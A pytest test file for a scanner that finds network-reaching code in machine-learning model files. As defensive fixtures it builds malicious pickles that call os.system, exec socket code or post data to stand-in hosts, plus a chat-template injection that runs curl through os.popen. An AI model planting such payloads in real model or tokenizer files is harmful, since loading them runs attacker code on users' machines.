"""Model files meet the same catalog, destinations and report as code."""

from __future__ import annotations

from pathlib import Path
from types import ModuleType

import pytest

from scanner.pipeline import Options, scan
from scanner.policy.records import Finding, Report

OPTIONS = Options(semgrep=False)


def hosts(report: Report) -> dict[str, set[str]]:
    """Hosts by model file."""
    out: dict[str, set[str]] = {}
    for finding in report.findings:
        out.setdefault(finding.flow.sink.file.partition("!")[0], set()).update(d.host for d in finding.destinations)
    return out


def one(folder: Path, data: bytes, name: str = "m.pkl") -> Finding:
    (folder / name).write_bytes(data)
    (finding,) = scan(str(folder), OPTIONS).findings
    return finding


def test_a_plain_checkpoint_gives_nothing(tmp_path: Path, builder: ModuleType) -> None:
    (tmp_path / "model.pt").write_bytes(builder.torch_zip(builder.text("https://example.org")))
    report = scan(str(tmp_path), OPTIONS)
    assert report.findings == ()
    assert (report.coverage.files, report.coverage.parsed, report.coverage.skipped) == (1, 1, ())


def test_every_reaching_file_is_found_with_its_host(tmp_path: Path, builder: ModuleType) -> None:
    wanted = builder.build(tmp_path)
    report = scan(str(tmp_path), OPTIONS)
    found = hosts(report)
    assert {file: host for file, host in wanted.items() if host not in found.get(file, ())} == {}
    compiled = {f.flow.sink.file.partition("!")[0] for f in report.findings if f.flow.trigger == "call"}
    assert compiled == {"cloudpickle_lambda.pkl", "lambda.h5", "lambda.keras"}  # such code runs when it is called
    assert {f.flow.trigger for f in report.findings} == {"load", "call"}
    assert {f.rule for f in report.findings} == {"DC022"}
    assert report.coverage.skipped == (("truncated.pkl", "read in part: ends too early"),)


_PEERS = {
    "aiohttp.request": ("GET", "http://127.0.0.1:9/a"),
    "boto3.client": ("s3",),
    "ftplib.FTP": ("127.0.0.1",),
    "huggingface_hub.hf_hub_download": ("org/model", "x.bin"),
    "httpx.get": ("http://127.0.0.1:9/",),
    "pandas.read_csv": ("http://127.0.0.1:9/t.csv",),
    "requests.get": ("http://127.0.0.1:9/",),
    "smtplib.SMTP": ("127.0.0.1", "25"),
    "torch.hub.load": ("org/repo", "model"),
    "torch.hub.load_state_dict_from_url": ("http://127.0.0.1:9/w.pt",),
    "transformers.AutoModel.from_pretrained": ("org/model",),
    "urllib.request.urlopen": ("http://127.0.0.1:9/",),
    "urllib.request.urlretrieve": ("http://127.0.0.1:9/", "out"),
    "wandb.init": ("project",),
}


@pytest.mark.parametrize("dotted", sorted(_PEERS))
def test_libraries_that_reach_out_are_found(tmp_path: Path, builder: ModuleType, dotted: str) -> None:
    module, _, name = dotted.rpartition(".")
    if dotted.startswith("transformers"):
        cls = builder.call(
            builder.name("builtins", "getattr"), builder.name("transformers", "AutoModel"), builder.text(name)
        )
    else:
        cls = builder.name(module, name)
    body = builder.pickled(builder.call(cls, *map(builder.text, _PEERS[dotted])))
    finding = one(tmp_path, body)
    assert (finding.kind, finding.flow.trigger) == ("model-file", "load")
    assert all(d.host for d in finding.destinations)


def test_a_program_that_says_no_host_is_found_without_one(tmp_path: Path, builder: ModuleType) -> None:
    finding = one(tmp_path, builder.pickled(builder.call(builder.name("os", "system"), builder.text("./setup"))))
    assert [d.host for d in finding.destinations] == [""]
    assert finding.confidence == "low"


def test_one_call_gives_one_finding_at_its_byte(tmp_path: Path, builder: ModuleType) -> None:
    data = builder.pickled(builder.call(builder.name("requests.api", "post"), builder.text("https://h.example.net/")))
    sink = one(tmp_path, data).flow.sink
    assert data[sink.line : sink.line + 1] == b"R"
    assert (sink.file, sink.api, sink.source) == (
        "m.pkl",
        "requests.api.post",
        "requests.api.post('https://h.example.net/')",
    )


def test_a_pickle_may_call_the_code_beside_it(tmp_path: Path, builder: ModuleType) -> None:
    (tmp_path / "shop.py").write_text(
        "import requests\n\ndef _restore(url):\n    requests.post('https://collect.shop-demo.dev/', data=url)\n"
    )
    (tmp_path / "m.pkl").write_bytes(builder.pickled(builder.call(builder.name("shop", "_restore"), builder.text("x"))))
    (finding,) = scan(str(tmp_path), OPTIONS).findings
    assert (finding.flow.sink.file, finding.flow.trigger) == ("shop.py", "load")
    assert [(s.file, s.role) for s in finding.flow.chain.steps] == [
        ("m.pkl", "entry"),
        ("shop.py", "sink"),
    ]


def test_what_rests_on_words_or_names_is_less_sure(tmp_path: Path, builder: ModuleType) -> None:
    assert one(tmp_path, builder.pickled(builder.system("h.example.net"))).confidence == "medium"
    assert one(tmp_path, builder.pickled(builder.code_object("h.example.net"), 3)).confidence == "medium"


def test_a_socket_in_a_code_string_is_one_finding_with_its_host(tmp_path: Path, builder: ModuleType) -> None:
    code = "import socket\ns = socket.socket()\ns.connect(('h.example.net', 4242))\n"
    finding = one(tmp_path, builder.pickled(builder.call(builder.name("builtins", "exec"), builder.text(code))))
    assert [d.host for d in finding.destinations] == ["h.example.net"]


def test_a_template_in_settings_is_read(tmp_path: Path) -> None:
    (tmp_path / "tokenizer_config.json").write_text(
        '{"chat_template": "{{ x.__init__.__globals__.os.popen(\'curl https://h.example.net\') }}"}'
    )
    assert hosts(scan(str(tmp_path), OPTIONS)) == {"tokenizer_config.json": {"h.example.net"}}


def test_two_scans_are_equal(tmp_path: Path, builder: ModuleType) -> None:
    builder.build(tmp_path)
    assert scan(str(tmp_path), OPTIONS) == scan(str(tmp_path), OPTIONS)
